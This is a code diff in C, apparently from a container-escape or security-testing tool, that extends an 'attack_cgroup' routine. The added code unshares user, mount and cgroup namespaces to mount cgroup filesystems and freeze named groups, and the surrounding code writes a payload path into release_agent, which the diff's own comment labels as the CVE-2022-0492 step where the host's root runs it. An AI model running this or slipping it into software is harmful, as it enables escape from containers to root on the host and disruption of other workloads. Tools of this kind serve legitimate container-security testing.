@@ -140,6 +140,26 @@ static void kill_group(const char *place, const char *group)
 	write_to(path, "cgroup.freeze", "1");
 }
 
+/*
+ * In a cgroup filesystem of the attacker's own, whose top is the cgroup that the container was started
+ * in, together with the caller.
+ */
+static void kill_by_new(char **groups, int namespaces)
+{
+	pid_t child = fork();
+
+	if (child == 0) {
+		mkdir("/tmp/cgroup", 0755);
+		if (unshare(namespaces) < 0 || mount("none", "/tmp/cgroup", "cgroup2", 0, NULL) < 0)
+			printf("mount cgroup2: %s\n", strerror(errno));
+		else
+			for (char **group = groups; *group; group++)
+				kill_group("/tmp/cgroup", *group);
+		_exit(0);
+	}
+	waitpid(child, NULL, 0);
+}
+
 void attack_cgroup(char **args)
 {
 	char line[4096], place[4096], type[64];
@@ -151,14 +171,11 @@ void attack_cgroup(char **args)
 				kill_group(place, *group);
 	if (mounts)
 		fclose(mounts);
-	/* One of its own. */
-	mkdir("/tmp/cgroup", 0755);
-	if (mount("none", "/tmp/cgroup", "cgroup2", 0, NULL) == 0)
-		for (char **group = args; *group; group++)
-			kill_group("/tmp/cgroup", *group);
-	else
-		printf("mount cgroup2: %s\n", strerror(errno));
+	kill_by_new(args, 0);
+	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS);
+	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
 	usleep(100000); /* who is killed ends in its own time */
+	mkdir("/tmp/cgroup", 0755);
 	/* CVE-2022-0492: the host's root executes what is named here. */
 	if (mount("none", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
 		write_to("/tmp/cgroup", "release_agent", "/mnt/img/agent");
